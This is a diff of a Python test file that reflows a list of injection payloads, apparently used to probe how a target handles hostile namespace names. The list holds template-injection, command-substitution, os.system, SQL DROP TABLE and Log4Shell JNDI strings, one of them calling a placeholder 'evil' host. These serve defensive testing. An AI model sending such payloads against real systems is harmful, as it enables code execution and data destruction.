@@ -553,7 +553,8 @@ def test_h24_a_name_of_a_namespace_is_what_it_must_be(target: Target, name: str)
 
 PAYLOADS = [
     "{{7*7}}", "${7*7}", "#{7*7}", "{{request.headers.Authorization}}", "{{randomValue}}", "<%= 7*7 %>",
-    "$(id)", "`id`", "%n%s%x", "{0.__class__}", "{self}", "__import__('os').system('id')", "'; DROP TABLE calls; --",
+    "$(id)", "`id`", "%n%s%x", "{0.__class__}", "{self}", "__import__('os').system('id')",
+    "'; DROP TABLE calls; --",
     "{{systemValue key='HOME'}}", "{% for x in y %}", "${jndi:ldap://evil/x}",
 ]  # fmt: skip
 
